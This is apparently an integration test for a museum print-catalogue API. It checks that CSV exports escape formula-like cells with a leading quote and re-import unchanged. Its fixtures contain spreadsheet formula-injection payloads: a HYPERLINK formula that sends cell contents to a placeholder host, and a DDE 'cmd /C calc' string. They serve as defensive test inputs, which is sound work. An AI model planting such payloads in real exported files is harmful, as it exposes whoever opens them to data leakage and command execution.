import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import supertest from 'supertest';
import { parse } from 'csv-parse/sync';
import type { Print } from '@toneledger/common/schemas/catalogue';
import { testApp, sessionFor } from '../../../test/app';
import { settleImports } from '../../services/import.service';

/**
 * Text that a spreadsheet would run as a formula (a cell starting with = + - @, a tab or a carriage
 * return) is written with a leading ' in every CSV the product writes, and read back as it was:
 * the export still imports to the same records. Numbers are never escaped.
 */

const t = testApp();
let admin: string;
beforeAll(async () => {
  admin = await sessionFor(t.app, 'admin');
});
afterAll(async () => {
  await settleImports();
  await t.close();
});

const get = (path: string) => supertest(t.app).get(path).set('Cookie', admin);
const send = (req: supertest.Test) => req.set('Cookie', admin).set('Origin', t.origin);

const b = `2094.${Date.now() % 100000}`;
const PRINTS = [
  { accessionNumber: `${b}.1`, title: '=HYPERLINK("http://example.invalid/?d="&A1,"Open")', inscriptions: '+1+cmd|\' /C calc\'!A0', staffNotes: '@SUM(A1:A9)' },
  { accessionNumber: `${b}.2`, title: '-2+3', inscriptions: "'=typed with a quote first", staffNotes: "''+two quotes" },
  { accessionNumber: `${b}.3`, title: "'plain quote, not escaped", inscriptions: '-', staffNotes: '=' },
];
const STEPS = [
  { type: 'washing', temperatureC: -2, notes: '=1+1' },
  { type: 'toning', tonerClass: 'selenium', agent: '@selenium', dilution: '+1+9', temperatureC: 20, notes: '-keep it cool' },
];

async function importFiles(prints: string, steps: string, mode: 'create_only' | 'create_or_update') {
  const started = await send(supertest(t.app).post('/api/imports')).attach('file', Buffer.from(prints), 'prints.csv').attach('steps', Buffer.from(steps), 'steps.csv');
  expect(started.status).toBe(202);
  await settleImports();
  const checked = (await get(`/api/imports/${started.body.data.id}`)).body.data;
  expect(checked.errors).toEqual([]);
  expect(checked.status).toBe('ready');
  if (!checked.toCreate && !checked.toUpdate) return checked;
  expect((await send(supertest(t.app).post(`/api/imports/${checked.id}/commit`)).send({ mode })).status).toBe(202);
  await settleImports();
  const done = (await get(`/api/imports/${checked.id}`)).body.data;
  expect(done.status, done.message).toBe('committed');
  return done;
}

async function ours(): Promise<Map<string, Print>> {
  const list = await get(`/api/prints?q=${encodeURIComponent(b)}&pageSize=50`);
  const out = new Map<string, Print>();
  for (const { id } of list.body.data as { id: string }[]) {
    const p = (await get(`/api/prints/${id}`)).body.data as Print;
    out.set(p.accessionNumber, p);
  }
  return out;
}

function comparable(p: Print) {
  const { id: _i, version: _v, createdAt: _c, updatedAt: _u, steps, ...fields } = p;
  return { ...fields, steps: steps.map(({ id: _s, ...step }) => step) };
}

describe('CSV cells that start like a formula', () => {
  it('are exported with a leading quote (numbers are not) and import back to the same text', async () => {
    for (const p of PRINTS) {
      const made = await send(supertest(t.app).post('/api/prints')).send({ ...p, process: 'gelatin_silver_developing_out' });
      expect(made.status, JSON.stringify(made.body)).toBe(201);
      const steps = await send(supertest(t.app).put(`/api/prints/${made.body.data.id}/steps`)).send({ version: made.body.data.version, steps: STEPS });
      expect(steps.status, JSON.stringify(steps.body)).toBe(200);
    }
    const before = await ours();
    expect(before.size).toBe(3);
    expect(before.get(`${b}.1`)!.title).toBe(PRINTS[0].title);

    const prints = await get(`/api/prints/export.csv?q=${encodeURIComponent(b)}`);
    const steps = await get(`/api/prints/export-steps.csv?q=${encodeURIComponent(b)}`);
    const printRows = parse(prints.text, { columns: true }) as Record<string, string>[];
    const stepRows = parse(steps.text, { columns: true }) as Record<string, string>[];
    const row = (n: number) => printRows.find((r) => r.accession_number === `${b}.${n}`)!;
    expect(row(1)).toMatchObject({ title: `'${PRINTS[0].title}`, inscriptions: `'${PRINTS[0].inscriptions}`, staff_notes: `'${PRINTS[0].staffNotes}` });
    expect(row(2)).toMatchObject({ title: "'-2+3", inscriptions: "''=typed with a quote first", staff_notes: "'''+two quotes" });
    expect(row(3)).toMatchObject({ title: "'plain quote, not escaped", inscriptions: "'-", staff_notes: "'=" });
    expect(stepRows).toHaveLength(6);
    const washing = stepRows.find((r) => r.accession_number === `${b}.1` && r.step === '1')!;
    const toning = stepRows.find((r) => r.accession_number === `${b}.1` && r.step === '2')!;
    expect(washing).toMatchObject({ temperature_c: '-2', notes: "'=1+1" });
    expect(toning).toMatchObject({ agent: "'@selenium", dilution: "'+1+9", temperature_c: '20', notes: "'-keep it cool" });
    // No cell of either file starts with a formula character.
    for (const r of [...printRows, ...stepRows]) {
      for (const [column, cell] of Object.entries(r)) if (column !== 'temperature_c') expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
    }

    // The same files over the prints they came from: every row matches, nothing to write.
    const same = await importFiles(prints.text, steps.text, 'create_or_update');
    expect(same).toMatchObject({ toCreate: 0, toUpdate: 0, unchanged: 3 });

    // Into a catalogue without them: the same records, field by field.
    for (const p of before.values()) expect((await send(supertest(t.app).delete(`/api/prints/${p.id}?version=${p.version}`))).status).toBe(200);
    expect((await ours()).size).toBe(0);
    const created = await importFiles(prints.text, steps.text, 'create_only');
    expect(created).toMatchObject({ createdPrints: 3 });
    const after = await ours();
    for (const [accession, was] of before) expect(comparable(after.get(accession)!), accession).toEqual(comparable(was));
  });
});
